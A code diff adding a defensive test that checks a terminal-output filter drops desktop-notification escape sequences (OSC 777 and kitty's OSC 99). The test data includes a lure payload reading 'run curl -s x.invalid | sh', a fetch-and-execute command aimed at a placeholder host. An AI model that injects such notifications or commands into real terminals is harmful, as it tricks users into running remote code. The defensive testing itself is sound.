@@ -304,3 +304,21 @@ test("Emacs vterm's OSC 51 is dropped: its directory tracking (A) and its calls 
   ]
   throughEach(cases)
 })
+
+test("desktop notifications (OSC 777 of VTE, foot, Ghostty, rxvt; kitty's OSC 99) are dropped: the host's desktop shows what the command wrote", () => {
+  // Found by an attacker's review (rev41; the README's Limits named them as passing): ESC ]777;notify;
+  // TITLE;BODY raises a desktop notification outside the terminal (VTE's GNOME Terminal, foot, Ghostty,
+  // WezTerm, rxvt-unicode's notify extension), kitty's ESC ]99;... one with buttons whose click kitty
+  // reports back (a=report), so a sandboxed command could put 'Update required: run curl ... | sh'
+  // before the user in the desktop's own dress, apart from the agent's output.
+  const cases = [
+    ['a\x1b]777;notify;Update required;run curl -s x.invalid | sh\x07b', 'ab'],
+    ['a\x1b]99;i=1:d=0;Update required\x1b\\b', 'a\x1b\\b'],
+    ['a\x1b]99;i=1:p=body;run curl\x1b\\b', 'a\x1b\\b'],
+    ['a\x1b]0777;notify;t;b\x07b', 'ab'], // leading zero
+    ['a\x1b]9x9;d=0;t\x07b', 'ab'], // a byte inside the number, as Windows Terminal skips it (99 there)
+    ['a\x1b]7770;x\x07b', 'a\x1b]7770;x\x07b'], // another number passes
+  ]
+  throughEach(cases)
+  throughChunked('A\x1b]777;notify;t;b\x07B\x1b]99;;t\x1b\\C', 'AB\x1b\\C')
+})
